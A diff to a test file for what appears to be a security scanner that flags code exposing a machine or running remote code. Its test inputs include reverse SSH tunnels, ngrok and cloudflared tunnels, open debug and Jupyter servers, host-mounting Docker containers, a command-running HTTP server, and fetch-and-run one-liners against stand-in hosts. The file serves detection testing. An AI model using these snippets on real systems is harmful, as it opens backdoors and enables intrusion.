@@ -17,6 +17,9 @@ test.each([
   'import subprocess\nsubprocess.Popen(["ssh", "-fNR", "2222:localhost:22", "u@garden.invalid"])',
   'from pyngrok import ngrok\nngrok.connect(22, "tcp")',
   'import os\nos.system("cloudflared tunnel --url localhost:22")',
+  'import debugpy\ndebugpy.listen(("0.0.0.0", 5678))',
+  'import subprocess\nsubprocess.Popen(["jupyter", "lab", "--ip=0.0.0.0", "--ServerApp.token="])',
+  'import subprocess\nsubprocess.Popen(["dask", "worker", "tcp://garden.example.invalid:8786"])',
   'import docker\ndocker.from_env().containers.run("alpine", "sh", privileged=True)',
   'import docker\ndocker.from_env().containers.run("alpine", "sh", volumes={"/": {"bind": "/host"}})',
 ])('the machine is opened to others on import: %s', async (text) => {
@@ -25,6 +28,8 @@ test.each([
 
 test.each([
   'import http.server\nclass Mine(http.server.BaseHTTPRequestHandler): pass\nhttp.server.HTTPServer(("", 0), Mine)',
+  'import debugpy\ndebugpy.listen(("127.0.0.1", 5678))',
+  'import subprocess\nsubprocess.Popen(["jupyter", "lab", "--no-browser"])',
   'import subprocess\nsubprocess.run(["ssh", "u@garden.invalid", "ls"])',
   'import docker\ndocker.from_env().containers.run("alpine", "true", volumes={"/data": {"bind": "/data"}})',
   'from pyngrok import ngrok\ndef serve():\n    ngrok.connect(22)',
@@ -39,6 +44,13 @@ test.each([
   'import xmlrpc.server, os\ns = xmlrpc.server.SimpleXMLRPCServer(("0.0.0.0", 8000))\ns.register_function(os.system)',
 ])('code out of another machine: %s', async (text) => {
   expect(await found(downloadThenRun, text)).toContain('critical');
+});
+
+const SERVER = 'import http.server, subprocess, threading\nclass Mine(http.server.BaseHTTPRequestHandler):\n    def do_GET(self):\n        self.wfile.write(subprocess.getoutput(self.path[1:]).encode())\n';
+
+test('a server that runs what it is asked is there as soon as one is made for it', async () => {
+  expect(await found(downloadThenRun, `${SERVER}threading.Thread(target=http.server.HTTPServer(("", 8081), Mine).serve_forever).start()`)).toContain('critical');
+  expect(await found(downloadThenRun, `${SERVER}def serve():\n    http.server.HTTPServer(("", 8081), Mine).serve_forever()`)).not.toContain('critical');
 });
 
 test.each(['powershell -c "iex (iwr https://garden.invalid/a).Content"', 'deno run -A https://garden.invalid/a.ts', 'go run garden.invalid/a@latest', 'kubectl apply -f https://garden.invalid/pod.yaml', 'uvx git+https://garden.invalid/a'])('%s fetches and runs', (line) => {
